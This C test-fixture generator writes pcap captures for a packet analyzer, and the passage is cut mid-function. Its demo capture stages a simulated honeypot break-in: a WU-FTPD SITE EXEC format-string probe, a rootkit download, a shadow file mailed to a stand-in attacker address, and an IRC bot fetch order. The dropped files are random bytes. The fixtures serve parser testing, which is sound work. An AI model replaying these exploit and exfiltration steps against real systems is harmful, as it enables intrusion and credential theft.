/* gen.c - writes the project's own deterministic test captures.
 *
 *   gen demo FILE        the incident walkthrough capture (make demo)
 *   gen basics FILE      one packet of each kind the first printers decode
 *   gen truncated FILE   a capture cut off in the middle of a packet record
 *   gen snapped FILE     packets captured with a small snap length
 *   gen hugecap|badng|user0 FILE   damaged files and an unknown link type
 *   gen hostile FILE     DNS, HTTP and TLS fields full of quotes, backslashes,
 *                        control bytes and invalid UTF-8 (for --json), plus
 *                        IPv6, VLAN, and malformed DNS/TLS lengths
 *
 * Everything is computed from fixed seeds and fixed timestamps, so the
 * files are byte-identical on every run and machine.  Checksums are real. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

struct cap {
	FILE *f;
	uint32_t sec, usec; /* clock of the next packet */
	unsigned snaplen;
};

static void put32le(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)v; p[1] = (uint8_t)(v >> 8);
	p[2] = (uint8_t)(v >> 16); p[3] = (uint8_t)(v >> 24);
}

static void put16(uint8_t *p, unsigned v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, v >> 16); put16(p + 2, v & 0xffff); }

static int cap_open(struct cap *c, const char *path, unsigned snaplen, uint32_t start)
{
	c->f = fopen(path, "wb");
	if (!c->f) {
		perror(path);
		return -1;
	}
	c->sec = start;
	c->usec = 0;
	c->snaplen = snaplen;
	uint8_t h[24];
	put32le(h, 0xa1b2c3d4);
	h[4] = 2; h[5] = 0; h[6] = 4; h[7] = 0; /* version 2.4 */
	put32le(h + 8, 0);
	put32le(h + 12, 0);
	put32le(h + 16, snaplen);
	put32le(h + 20, 1); /* DLT_EN10MB */
	fwrite(h, 1, 24, c->f);
	return 0;
}

/* Advances the clock by us microseconds. */
static void tick(struct cap *c, uint32_t us)
{
	c->usec += us;
	c->sec += c->usec / 1000000;
	c->usec %= 1000000;
}

static void cap_write(struct cap *c, const uint8_t *p, unsigned len)
{
	unsigned caplen = len < c->snaplen ? len : c->snaplen;
	uint8_t h[16];
	put32le(h, c->sec);
	put32le(h + 4, c->usec);
	put32le(h + 8, caplen);
	put32le(h + 12, len);
	fwrite(h, 1, 16, c->f);
	fwrite(p, 1, caplen, c->f);
}

static uint16_t cksum(const uint8_t *p, unsigned len, uint32_t sum)
{
	for (unsigned i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		sum += (uint32_t)p[len - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* A frame under construction: Ethernet + IPv4 + payload. */
struct pkt {
	uint8_t b[2048];
	unsigned len;
};

static const uint8_t mac_a[6] = { 0x00, 0x50, 0x56, 0x10, 0x20, 0x30 };
static const uint8_t mac_b[6] = { 0x00, 0x0c, 0x29, 0xaa, 0xbb, 0xcc };

static void ether(struct pkt *k, const uint8_t *src, const uint8_t *dst, unsigned type)
{
	memcpy(k->b, dst, 6);
	memcpy(k->b + 6, src, 6);
	put16(k->b + 12, type);
	k->len = 14;
}

static void ip4(uint8_t *a, const char *s)
{
	unsigned x[4];
	if (sscanf(s, "%u.%u.%u.%u", &x[0], &x[1], &x[2], &x[3]) != 4)
		abort();
	for (int i = 0; i < 4; i++)
		a[i] = (uint8_t)x[i];
}

/* Appends an IPv4 header for a payload of plen bytes; returns its offset. */
static unsigned ipv4(struct pkt *k, const char *src, const char *dst, unsigned proto,
                     unsigned plen, unsigned id, unsigned ttl)
{
	unsigned o = k->len;
	uint8_t *h = k->b + o;
	memset(h, 0, 20);
	h[0] = 0x45;
	put16(h + 2, 20 + plen);
	put16(h + 4, id);
	put16(h + 6, 0x4000); /* DF */
	h[8] = (uint8_t)ttl;
	h[9] = (uint8_t)proto;
	ip4(h + 12, src);
	ip4(h + 16, dst);
	put16(h + 10, cksum(h, 20, 0));
	k->len += 20;
	return o;
}

static uint32_t pseudo(const uint8_t *ip, unsigned proto, unsigned len)
{
	uint32_t s = 0;
	for (int i = 12; i < 20; i += 2)
		s += (uint32_t)(ip[i] << 8 | ip[i + 1]);
	return s + proto + len;
}

#define F_FIN 0x01
#define F_SYN 0x02
#define F_RST 0x04
#define F_PSH 0x08
#define F_ACK 0x10
#define F_URG 0x20
#define F_ECE 0x40
#define F_CWR 0x80

static void tcp_pkt(struct cap *c, const uint8_t *smac, const uint8_t *dmac,
                    const char *src, unsigned sport, const char *dst, unsigned dport,
                    unsigned flags, uint32_t seq, uint32_t ack, unsigned win,
                    const void *data, unsigned dlen, int with_mss)
{
	struct pkt k;
	unsigned olen = with_mss ? 12 : 0;
	ether(&k, smac, dmac, 0x0800);
	unsigned ipo = ipv4(&k, src, dst, 6, 20 + olen + dlen, (seq ^ sport) & 0xffff, 64);
	uint8_t *t = k.b + k.len;
	memset(t, 0, 20 + olen);
	put16(t, sport);
	put16(t + 2, dport);
	put32(t + 4, seq);
	put32(t + 8, ack);
	t[12] = (uint8_t)(((20 + olen) / 4) << 4);
	t[13] = (uint8_t)flags;
	put16(t + 14, win);
	if (flags & F_URG)
		put16(t + 18, 1);
	if (with_mss) {
		/* mss 1460, sackOK, nop, nop, nop, wscale 2 */
		static const uint8_t o[12] = { 2, 4, 0x05, 0xb4, 4, 2, 1, 1, 1, 3, 3, 2 };
		memcpy(t + 20, o, 12);
	}
	memcpy(t + 20 + olen, data, dlen);
	unsigned tl = 20 + olen + dlen;
	put16(t + 16, cksum(t, tl, pseudo(k.b + ipo, 6, tl)));
	k.len += tl;
	cap_write(c, k.b, k.len);
}

static void udp_pkt(struct cap *c, const char *src, unsigned sport, const char *dst,
                    unsigned dport, const void *data, unsigned dlen)
{
	struct pkt k;
	ether(&k, mac_a, mac_b, 0x0800);
	unsigned ipo = ipv4(&k, src, dst, 17, 8 + dlen, 0x1234 + dlen, 128);
	uint8_t *u = k.b + k.len;
	put16(u, sport);
	put16(u + 2, dport);
	put16(u + 4, 8 + dlen);
	put16(u + 6, 0);
	memcpy(u + 8, data, dlen);
	put16(u + 6, cksum(u, 8 + dlen, pseudo(k.b + ipo, 17, 8 + dlen)));
	k.len += 8 + dlen;
	cap_write(c, k.b, k.len);
}

static void raw_ip_pkt(struct cap *c, const char *src, const char *dst, unsigned proto,
                       const void *data, unsigned dlen)
{
	struct pkt k;
	ether(&k, mac_a, mac_b, 0x0800);
	ipv4(&k, src, dst, proto, dlen, 0x4000 + dlen, 255);
	memcpy(k.b + k.len, data, dlen);
	k.len += dlen;
	cap_write(c, k.b, k.len);
}

/* A DNS query for name (dotted) and type; returns its length. */
static unsigned dns_query(uint8_t *m, unsigned id, unsigned flags, const char *name, unsigned type)
{
	put16(m, id);
	put16(m + 2, flags);
	put16(m + 4, 1);
	memset(m + 6, 0, 6);
	unsigned n = 12;
	while (*name) {
		const char *dot = strchr(name, '.');
		unsigned l = dot ? (unsigned)(dot - name) : (unsigned)strlen(name);
		m[n++] = (uint8_t)l;
		memcpy(m + n, name, l);
		n += l;
		name += l + (dot ? 1 : 0);
	}
	m[n++] = 0;
	put16(m + n, type);
	put16(m + n + 2, 1);
	return n + 4;
}

/* A response with one A record answering the query in m (length qlen). */
static unsigned dns_answer(uint8_t *m, unsigned qlen, const char *addr)
{
	put16(m + 2, 0x8180);
	put16(m + 6, 1);
	uint8_t *a = m + qlen;
	put16(a, 0xc00c);
	put16(a + 2, 1);
	put16(a + 4, 1);
	put32(a + 6, 300);
	put16(a + 10, 4);
	ip4(a + 12, addr);
	return qlen + 16;
}

static void arp_pkt(struct cap *c, unsigned op, const uint8_t *sha, const char *spa,
                    const uint8_t *tha, const char *tpa)
{
	struct pkt k;
	static const uint8_t bcast[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
	ether(&k, sha, op == 1 ? bcast : tha, 0x0806);
	uint8_t *a = k.b + k.len;
	put16(a, 1);
	put16(a + 2, 0x0800);
	a[4] = 6;
	a[5] = 4;
	put16(a + 6, op);
	memcpy(a + 8, sha, 6);
	ip4(a + 14, spa);
	memcpy(a + 18, tha, 6);
	ip4(a + 24, tpa);
	k.len += 28;
	memset(k.b + k.len, 0, 18); /* Ethernet padding to 60 bytes */
	k.len += 18;
	cap_write(c, k.b, k.len);
}

static void icmp_echo(struct cap *c, const char *src, const char *dst, unsigned type,
                      unsigned id, unsigned seq)
{
	uint8_t m[40];
	memset(m, 0, sizeof m);
	m[0] = (uint8_t)type;
	put16(m + 4, id);
	put16(m + 6, seq);
	for (unsigned i = 8; i < sizeof m; i++)
		m[i] = (uint8_t)('a' + (i - 8) % 23);
	put16(m + 2, cksum(m, sizeof m, 0));
	raw_ip_pkt(c, src, dst, 1, m, sizeof m);
}

/* A TCP exchange: handshake, then lines alternating client/server, FIN. */
struct conv {
	struct cap *c;
	const char *cli, *srv;
	unsigned cport, sport;
	uint32_t cseq, sseq;
};

static void conv_open(struct conv *v)
{
	tcp_pkt(v->c, mac_a, mac_b, v->cli, v->cport, v->srv, v->sport, F_SYN, v->cseq, 0, 5840, "", 0, 1);
	tick(v->c, 41000);
	tcp_pkt(v->c, mac_b, mac_a, v->srv, v->sport, v->cli, v->cport, F_SYN | F_ACK, v->sseq, v->cseq + 1, 5792, "", 0, 1);
	tick(v->c, 220);
	v->cseq++;
	v->sseq++;
	tcp_pkt(v->c, mac_a, mac_b, v->cli, v->cport, v->srv, v->sport, F_ACK, v->cseq, v->sseq, 5840, "", 0, 0);
	tick(v->c, 90000);
}

static void conv_say(struct conv *v, int from_server, const char *text)
{
	unsigned n = (unsigned)strlen(text);
	if (from_server) {
		tcp_pkt(v->c, mac_b, mac_a, v->srv, v->sport, v->cli, v->cport, F_PSH | F_ACK, v->sseq, v->cseq, 5792, text, n, 0);
		v->sseq += n;
	} else {
		tcp_pkt(v->c, mac_a, mac_b, v->cli, v->cport, v->srv, v->sport, F_PSH | F_ACK, v->cseq, v->sseq, 5840, text, n, 0);
		v->cseq += n;
	}
	tick(v->c, 150000);
}

/* Sends len bytes in segments of at most 1448. */
static void conv_send(struct conv *v, int from_server, const uint8_t *p, unsigned len)
{
	for (unsigned o = 0; o < len; o += 1448) {
		unsigned n = len - o < 1448 ? len - o : 1448;
		if (from_server) {
			tcp_pkt(v->c, mac_b, mac_a, v->srv, v->sport, v->cli, v->cport, F_PSH | F_ACK, v->sseq, v->cseq, 5792, p + o, n, 0);
			v->sseq += n;
		} else {
			tcp_pkt(v->c, mac_a, mac_b, v->cli, v->cport, v->srv, v->sport, F_PSH | F_ACK, v->cseq, v->sseq, 5840, p + o, n, 0);
			v->cseq += n;
		}
		tick(v->c, 2000);
	}
	tick(v->c, 50000);
}

/* Both sides FIN (the client first), and the last ACK. */
static void conv_close(struct conv *v)
{
	tcp_pkt(v->c, mac_a, mac_b, v->cli, v->cport, v->srv, v->sport, F_FIN | F_ACK, v->cseq, v->sseq, 5840, "", 0, 0);
	v->cseq++;
	tick(v->c, 400);
	tcp_pkt(v->c, mac_b, mac_a, v->srv, v->sport, v->cli, v->cport, F_FIN | F_ACK, v->sseq, v->cseq, 5792, "", 0, 0);
	v->sseq++;
	tick(v->c, 300);
	tcp_pkt(v->c, mac_a, mac_b, v->cli, v->cport, v->srv, v->sport, F_ACK, v->cseq, v->sseq, 5840, "", 0, 0);
	tick(v->c, 100000);
}

/* n deterministic pseudo-random bytes (xorshift32 from seed). */
static void prandom(uint8_t *p, unsigned n, uint32_t seed)
{
	uint32_t x = seed;
	for (unsigned i = 0; i < n; i++) {
		x ^= x << 13;
		x ^= x >> 17;
		x ^= x << 5;
		p[i] = (uint8_t)(x >> 24);
	}
}

/* Base64 of p, in lines of 76 ending CRLF; returns the length written. */
static unsigned base64_lines(char *d, const uint8_t *p, unsigned n)
{
	static const char t[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	unsigned k = 0, col = 0;
	for (unsigned i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) | (i + 2 < n ? p[i + 2] : 0);
		d[k++] = t[v >> 18 & 63];
		d[k++] = t[v >> 12 & 63];
		d[k++] = i + 1 < n ? t[v >> 6 & 63] : '=';
		d[k++] = i + 2 < n ? t[v & 63] : '=';
		if ((col += 4) == 76 || i + 3 >= n) {
			d[k++] = '\r';
			d[k++] = '\n';
			col = 0;
		}
	}
	return k;
}

/* The files the demo's intruder moves (tests/session/run.sh checks their
 * SHA-256): the rootkit fetched by FTP, the one the bot fetches by HTTP,
 * and the password file mailed out. */
#define DEMO_FTP_FILE_LEN 6000
#define DEMO_FTP_FILE_SEED 0x1f7e2001u
#define DEMO_HTTP_FILE_LEN 5000
#define DEMO_HTTP_FILE_SEED 0x0badf00du
static const char demo_shadow[] =
	"root:$1$Vg2aNc7J$M0ZfE8w7PXkQyBq6cR2vA/:11595:0:99999:7:::\n"
	"bin:*:11595:0:99999:7:::\n"
	"daemon:*:11595:0:99999:7:::\n"
	"ftp:*:11595:0:99999:7:::\n"
	"named:!!:11595:0:99999:7:::\n"
	"jdoe:$1$Xr5qLm0P$5yU0Bj1hT9zW3qGd6eN2c.:11595:0:99999:7:::\n";

static int gen_demo(const char *path)
{
	struct cap c;
	if (cap_open(&c, path, 65535, 1002456500)) /* 2001-10-07, the honeypot era */
		return 1;
	/* 1. DNS lookup from the analyst network */
	uint8_t m[512];
	unsigned n = dns_query(m, 54517, 0x0000, "www.bluecoat.com", 1);
	udp_pkt(&c, "10.10.253.34", 2400, "192.5.5.241", 53, m, n);
	tick(&c, 38000);
	n = dns_answer(m, n, "66.150.8.52");
	udp_pkt(&c, "192.5.5.241", 53, "10.10.253.34", 2400, m, n);
	tick(&c, 500000);

	/* 2. The WU-FTPD break-in on the Linux honeypot */
	struct conv ftp = { &c, "61.219.90.180", "192.168.100.45", 3711, 21, 2831049217u, 1911391744u };
	conv_open(&ftp);
	conv_say(&ftp, 1, "220 localhost.localdomain FTP server (Version wu-2.6.0(1) Mon Feb 28 10:30:36 EST 2000) ready.\r\n");
	conv_say(&ftp, 0, "USER ftp\r\n");
	conv_say(&ftp, 1, "331 Guest login ok, send your complete e-mail address as password.\r\n");
	conv_say(&ftp, 0, "PASS mozilla@\r\n");
	conv_say(&ftp, 1, "230 Guest login ok, access restrictions apply.\r\n");
	conv_say(&ftp, 0, "SITE EXEC %020d|%.f%.f|\r\n");
	conv_say(&ftp, 1, "200-31 0000000000000000000000000000000000000000000000000000000000000|\r\n");
	tcp_pkt(&c, mac_a, mac_b, ftp.cli, ftp.cport, ftp.srv, ftp.sport, F_FIN | F_ACK, ftp.cseq, ftp.sseq, 5840, "", 0, 0);
	tick(&c, 700000);

	/* 3. The compromised honeypot talks IP protocol 11 (NVP) to a few hosts */
	static const char *const nvp_peers[] = { "192.168.100.28", "206.252.192.195", "61.134.3.11" };
	for (unsigned i = 0; i < 6; i++) {
		uint8_t d[22];
		for (unsigned j = 0; j < sizeof d; j++)
			d[j] = (uint8_t)(0x02 + i * 7 + j * 13);
		d[0] = 3;
		raw_ip_pkt(&c, "192.168.100.45", nvp_peers[i % 3], 11, d, sizeof d - (i % 2) * 4);
		tick(&c, 250000);
	}

	/* 4. The Windows box looks for IRC servers on 6666-6669 */
	static const struct { const char *srv; unsigned port; int answers; } irc[] = {
		{ "209.126.161.29", 6667, 1 }, { "66.33.65.58", 6666, 0 },
		{ "217.199.175.10", 6669, 1 }, { "63.241.174.144", 6668, 1 },
		{ "209.196.44.172", 6667, 0 },
	};
	for (unsigned i = 0; i < sizeof irc / sizeof irc[0]; i++) {
		uint32_t iss = 0x1a2b3c00u + i * 0x01010101u;
		tcp_pkt(&c, mac_a, mac_b, "172.16.134.191", 1025 + i, irc[i].srv, irc[i].port, F_SYN, iss, 0, 16384, "", 0, 1);
		tick(&c, 60000);
		if (irc[i].answers) {
			tcp_pkt(&c, mac_b, mac_a, irc[i].srv, irc[i].port, "172.16.134.191", 1025 + i, F_SYN | F_ACK, 0x7f000000u + i * 977, iss + 1, 5840, "", 0, 1);
		} else {
			tcp_pkt(&c, mac_b, mac_a, irc[i].srv, irc[i].port, "172.16.134.191", 1025 + i, F_RST | F_ACK, 0, iss + 1, 0, "", 0, 0);
		}
		tick(&c, 120000);
	}
	struct conv ircc = { &c, "172.16.134.191", "209.126.161.29", 1030, 6667, 0x33445566u, 0x55667788u };
	conv_open(&ircc);
	conv_say(&ircc, 0, "NICK rbot-4711\r\nUSER rbot 0 0 :rbot\r\n");
	conv_say(&ircc, 1, ":irc.example.net 001 rbot-4711 :Welcome\r\n");
	conv_say(&ircc, 0, "JOIN #owned\r\n");

	/* 5. One packet with each TCP flag */
	static const unsigned flags[] = { F_FIN, F_SYN, F_RST, F_PSH, F_ACK, F_URG, F_ECE, F_CWR,
					  F_FIN | F_PSH | F_URG, 0 };
	for (unsigned i = 0; i < sizeof flags / sizeof flags[0]; i++) {
		tcp_pkt(&c, mac_a, mac_b, "10.10.253.7", 40000 + i, "10.10.253.99", 80, flags[i],
			1000u * (i + 1), (flags[i] & F_ACK) ? 77u : 0, 1024, "", 0, 0);
		tick(&c, 10000);
	}

	/* 6. ARP and ICMP echo on the analyst segment */
	static const uint8_t zero[6] = { 0 };
	arp_pkt(&c, 1, mac_a, "10.10.253.34", zero, "10.10.253.1");
	tick(&c, 400);
	arp_pkt(&c, 2, mac_b, "10.10.253.1", mac_a, "10.10.253.34");
	tick(&c, 9000);
	icmp_echo(&c, "10.10.253.34", "192.5.5.241", 8, 0x0301, 1);
	tick(&c, 31000);
	icmp_echo(&c, "192.5.5.241", "10.10.253.34", 0, 0x0301, 1);
	tick(&c, 800000);

	/* 7. From the honeypot, the intruder fetches a rootkit by FTP (passive) */
	static uint8_t blob[DEMO_FTP_FILE_LEN > DEMO_HTTP_FILE_LEN ? DEMO_FTP_FILE_LEN : DEMO_HTTP_FILE_LEN];
	struct conv f2 = { &c, "192.168.100.45", "211.20.37.60", 1034, 21, 0x0c0ffee0u, 0x7e57da7au };
	conv_open(&f2);
	conv_say(&f2, 1, "220 ProFTPD 1.2.0pre10 Server (warez) [211.20.37.60]\r\n");
	conv_say(&f2, 0, "USER anonymous\r\n");
	conv_say(&f2, 1, "331 Anonymous login ok, send your complete email address as your password.\r\n");
	conv_say(&f2, 0, "PASS root@\r\n");
	conv_say(&f2, 1, "230 Anonymous access granted, restrictions apply.\r\n");
	conv_say(&f2, 0, "TYPE I\r\n");
	conv_say(&f2, 1, "200 Type set to I.\r\n");
	conv_say(&f2, 0, "PASV\r\n");
	conv_say(&f2, 1, "227 Entering Passive Mode (211,20,37,60,18,53).\r\n");
	struct conv fd = { &c, "192.168.100.45", "211.20.37.60", 1035, 18 * 256 + 53, 0x2d2d2d2du, 0x5a5a5a5au };
	conv_open(&fd);
	conv_say(&f2, 0, "RETR lrk5.tgz\r\n");
	conv_say(&f2, 1, "150 Opening BINARY mode data connection for lrk5.tgz (6000 bytes).\r\n");
	prandom(blob, DEMO_FTP_FILE_LEN, DEMO_FTP_FILE_SEED);
	conv_send(&fd, 1, blob, DEMO_FTP_FILE_LEN);
	conv_close(&fd);
	conv_say(&f2, 1, "226 Transfer complete.\r\n");
	conv_say(&f2, 0, "QUIT\r\n");
	conv_say(&f2, 1, "221 Goodbye.\r\n");
	conv_close(&f2);

	/* 8. ... and mails the password file out */
	struct conv sm = { &c, "192.168.100.45", "207.46.104.20", 1036, 25, 0x11112222u, 0x33334444u };
	conv_open(&sm);
	conv_say(&sm, 1, "220 mx.hush.example ESMTP Sendmail 8.11.6; Sun, 7 Oct 2001 12:08:31 GMT\r\n");
	conv_say(&sm, 0, "HELO localhost.localdomain\r\n");
	conv_say(&sm, 1, "250 mx.hush.example Hello\r\n");
	conv_say(&sm, 0, "MAIL FROM:<root@localhost.localdomain>\r\n");
	conv_say(&sm, 1, "250 2.1.0 Sender ok\r\n");
	conv_say(&sm, 0, "RCPT TO:<h4x0r@hush.example>\r\n");
	conv_say(&sm, 1, "250 2.1.5 Recipient ok\r\n");
	conv_say(&sm, 0, "DATA\r\n");
	conv_say(&sm, 1, "354 Enter mail, end with \".\" on a line by itself\r\n");
	static char mail[4096];
	unsigned ml = (unsigned)snprintf(mail, sizeof mail,
		"From: root@localhost.localdomain\r\n"
		"To: h4x0r@hush.example\r\n"
		"Subject: 192.168.100.45 owned\r\n"
		"Date: Sun, 7 Oct 2001 12:08:31 +0000\r\n"
		"Message-ID: <200110071208.h4x0r@localhost.localdomain>\r\n"
		"X-Mailer: mutt 1.2.5i\r\n"
		"MIME-Version: 1.0\r\n"
		"Content-Type: multipart/mixed; boundary=\"=_x0x0\"\r\n"
		"\r\n"
		"--=_x0x0\r\n"
		"Content-Type: text/plain\r\n"
		"\r\n"
		"box is ours. shadow attached.\r\n"
		"..and lrk5 is in\r\n"
		"--=_x0x0\r\n"
		"Content-Type: application/octet-stream; name=\"shadow\"\r\n"
		"Content-Disposition: attachment; filename=\"shadow\"\r\n"
		"Content-Transfer-Encoding: base64\r\n"
		"\r\n");
	ml += base64_lines(mail + ml, (const uint8_t *)demo_shadow, sizeof demo_shadow - 1);
	ml += (unsigned)snprintf(mail + ml, sizeof mail - ml, "--=_x0x0--\r\n.\r\n");
	conv_send(&sm, 0, (const uint8_t *)mail, ml);
	conv_say(&sm, 1, "250 2.0.0 f97C8VZ01234 Message accepted for delivery\r\n");
	conv_say(&sm, 0, "QUIT\r\n");
	conv_say(&sm, 1, "221 2.0.0 mx.hush.example closing connection\r\n");
	conv_close(&sm);

	/* 9. The IRC bot gets an order ... */
	conv_say(&ircc, 1, ":h4x0r!~h@61.219.90.180 PRIVMSG #owned :!get http://64.124.157.48/x/rk.tgz\r\n");

	/* 10. ... and the Windows box fetches it by HTTP */
	struct conv hc = { &c, "172.16.134.191", "64.124.157.48", 1031, 80, 0x44556677u, 0x66778899u };
	conv_open(&hc);
	conv_say(&hc, 0, "GET /x/rk.tgz HTTP/1.0\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 5.5; Windows 98)\r\n"
		 "Host: 64.124.157.48\r\n\r\n");
	static const char resp[] = "HTTP/1.0 200 OK\r\nServer: Apache/1.3.20 (Unix)\r\n"
				   "Content-Type: application/x-gzip\r\nContent-Length: 5000\r\n\r\n";
	conv_send(&hc, 1, (const uint8_t *)resp, sizeof resp - 1);
	prandom(blob, DEMO_HTTP_FILE_LEN, DEMO_HTTP_FILE_SEED);
	conv_send(&hc, 1, blob, DEMO_HTTP_FILE_LEN);
	tcp_pkt(&c, mac_b, mac_a, hc.srv, hc.sport, hc.cli, hc.cport, F_FIN | F_ACK, hc.sseq, hc.cseq, 5792, "", 0, 0);
	hc.sseq++;
	tick(&c, 300);
	tcp_pkt(&c, mac_a, mac_b, hc.cli, hc.cport, hc.srv, hc.sport, F_FIN | F_ACK, hc.cseq, hc.sseq, 5840, "", 0, 0);
	hc.cseq++;
	tick(&c, 300);
	tcp_pkt(&c, mac_b, mac_a, hc.srv, hc.sport, hc.cli, hc.cport, F_ACK, hc.sseq, hc.cseq, 5792, "", 0, 0);
	fclose(c.f);
	return 0;
}

/* One of each kind the first printers decode, incl. an HTTP-less TCP payload. */
static int gen_basics(const char *path, unsigned snaplen)
{
	struct cap c;
	if (cap_open(&c, path, snaplen, 1700000000))
		return 1;
	uint8_t m[512];
	unsigned n = dns_query(m, 4660, 0x0100, "example.org", 28);
	udp_pkt(&c, "192.0.2.10", 33333, "198.51.100.53", 53, m, n);
	tick(&c, 1500);
	udp_pkt(&c, "192.0.2.10", 33334, "198.51.100.9", 9999, "hello, world", 12);
	tick(&c, 1500);
	struct conv v = { &c, "192.0.2.10", "198.51.100.80", 50000, 7777, 100, 900000 };
	conv_open(&v);
	conv_say(&v, 0, "binary\x01\x02\x03\xff payload\r\nsecond line\n");
	conv_say(&v, 1, "ok");
	icmp_echo(&c, "192.0.2.10", "198.51.100.80", 8, 7, 9);
	static const uint8_t zero[6] = { 0 };
	arp_pkt(&c, 1, mac_a, "192.0.2.10", zero, "192.0.2.1");
	uint8_t d[9] = { 1, 2, 3, 4, 5, 6, 7, 8, 9 };
	raw_ip_pkt(&c, "192.0.2.10", "198.51.100.1", 253, d, sizeof d);
	fclose(c.f);
	return 0;
}

/* A valid capture whose last record is cut short, as when a disk fills. */
static int gen_truncated(const char *path)
{
	if (gen_basics(path, 65535))
		return 1;
	FILE *f = fopen(path, "r+b");
	if (!f || fseek(f, 0, SEEK_END))
		return 1;
	long size = ftell(f);
	fclose(f);
	/* drop the last 5 bytes: the final packet record is incomplete */
	return truncate(path, size - 5) ? 1 : 0;
}

/* Appends a DNS name given as raw labels: each label is a length-prefixed
 * run in lab (len, bytes...), terminated by 0. */
static unsigned raw_name(uint8_t *m, const uint8_t *lab, unsigned n)
{
	memcpy(m, lab, n);
	return n;
}

/* A frame with an optional VLAN tag and an IPv6 header + TCP payload. */
static void tcp6_pkt(struct cap *c, int vlan, const void *data, unsigned dlen, unsigned flags)
{
	struct pkt k;
	ether(&k, mac_a, mac_b, vlan ? 0x8100 : 0x86dd);
	if (vlan) {
		put16(k.b + k.len, 42);
		put16(k.b + k.len + 2, 0x86dd);
		k.len += 4;
	}
	uint8_t *h = k.b + k.len;
	memset(h, 0, 40);
	h[0] = 0x60;
	put16(h + 4, 20 + dlen);
	h[6] = 6;
	h[7] = 64;
	h[8] = 0x20; h[9] = 0x01; h[10] = 0x0d; h[11] = 0xb8; h[23] = 1;
	h[24] = 0x20; h[25] = 0x01; h[26] = 0x0d; h[27] = 0xb8; h[39] = 2;
	k.len += 40;
	uint8_t *t = k.b + k.len;
	memset(t, 0, 20);
	put16(t, 50123);
	put16(t + 2, 80);
	put32(t + 4, 1000);
	put32(t + 8, 2000);
	t[12] = 0x50;
	t[13] = (uint8_t)flags;
	put16(t + 14, 8192);
	memcpy(t + 20, data, dlen);
	uint32_t sum = 0;
	for (int i = 8; i < 40; i += 2)
		sum += (uint32_t)(h[i] << 8 | h[i + 1]);
	put16(t + 16, cksum(t, 20 + dlen, sum + 6 + 20 + dlen));
	k.len += 20 + dlen;
	cap_write(c, k.b, k.len);
}

/* A TLS ClientHello record carrying sni (n bytes) as server_name. */
static unsigned client_hello(uint8_t *p, const void *sni, unsigned n)
{
	unsigned ext = 4 + 5 + n, body = 2 + 32 + 1 + 4 + 2 + 2 + ext;
	p[0] = 0x16; p[1] = 3; p[2] = 1; put16(p + 3, 4 + body);
	p[5] = 1; p[6] = 0; put16(p + 7, body);
	uint8_t *q = p + 9;
	q[0] = 3; q[1] = 3;
	memset(q + 2, 0x42, 32);
	q += 34;
	*q++ = 0;
	put16(q, 2); put16(q + 2, 0x1301); q += 4;
	*q++ = 1; *q++ = 0;
	put16(q, ext); q += 2;
	put16(q, 0); put16(q + 2, 5 + n); put16(q + 4, 3 + n); q[6] = 0; put16(q + 7, n);
	memcpy(q + 9, sni, n);
	return 9 + body;
}

static int gen_hostile(const char *path)
{
	struct cap c;
	if (cap_open(&c, path, 65535, 1600000000))
		return 1;
	/* 1. a DNS query whose name holds every kind of hostile byte */
	static const uint8_t evil[] = {
		8, 'q', '"', 'u', '\\', 'o', 't', 'e', '"',
		6, 0x00, 0x01, 0x0a, 0x0d, 0x1f, 0x7f,
		9, 0xff, 0xfe, 0xc0, 0x80, 0x80, 0xe2, 0x82, 0xed, 0xa0,
		9, 0xc3, 0xa9, 0xe2, 0x82, 0xac, 0xf0, 0x9f, 0x98, 0x80, /* valid: e-acute, euro, emoji */
		5, 'a', '.', 'b', '<', '>',
		0,
	};
	uint8_t m[1024];
	put16(m, 0xbeef); put16(m + 2, 0x0100); put16(m + 4, 1); memset(m + 6, 0, 6);
	unsigned n = 12 + raw_name(m + 12, evil, sizeof evil);
	put16(m + n, 16); put16(m + n + 2, 1); n += 4;
	udp_pkt(&c, "10.66.0.1", 40001, "10.66.0.53", 53, m, n);
	tick(&c, 1000);
	/* 2. its answer: a CNAME to another hostile name, then an A */
	unsigned qlen = n;
	put16(m + 2, 0x8180); put16(m + 6, 2);
	uint8_t *a = m + n;
	put16(a, 0xc00c); put16(a + 2, 5); put16(a + 4, 1); put32(a + 6, 60);
	static const uint8_t cname[] = { 4, '\\', '"', 0x01, 0xff, 3, 'n', 'e', 't', 0 };
	put16(a + 10, sizeof cname);
	memcpy(a + 12, cname, sizeof cname);
	a += 12 + sizeof cname;
	put16(a, 0xc00c); put16(a + 2, 1); put16(a + 4, 1); put32(a + 6, 60); put16(a + 10, 4);
	ip4(a + 12, "10.66.6.6");
	a += 16;
	n = (unsigned)(a - m);
	(void)qlen;
	udp_pkt(&c, "10.66.0.53", 53, "10.66.0.1", 40001, m, n);
	tick(&c, 1000);
	/* 3. a DNS message whose name points at itself (compression loop) */
	put16(m, 0x1001); put16(m + 2, 0x0100); put16(m + 4, 1); memset(m + 6, 0, 6);
	m[12] = 0xc0; m[13] = 12; put16(m + 14, 1); put16(m + 16, 1);
	udp_pkt(&c, "10.66.0.1", 40002, "10.66.0.53", 53, m, 18);
	tick(&c, 1000);
	/* 4. a DNS header that claims 5 answers and ends after the question */
	n = dns_query(m, 0x1002, 0x8180, "short.example", 1);
	put16(m + 6, 5);
	udp_pkt(&c, "10.66.0.53", 53, "10.66.0.1", 40003, m, n);
	tick(&c, 1000);
	/* 5. HTTP request with hostile URI and Host */
	static const char req[] = "GET /a\"b\\c\x01\x1b[31m\xff\xfe/%00 HTTP/1.1\r\n"
				  "User-Agent: x\r\nhOsT:  evil\"host\\\x7f\xc3\x28.example \r\n\r\n";
	struct conv v = { &c, "10.66.0.1", "10.66.0.80", 40004, 80, 5000, 9000 };
	conv_open(&v);
	conv_say(&v, 0, req);
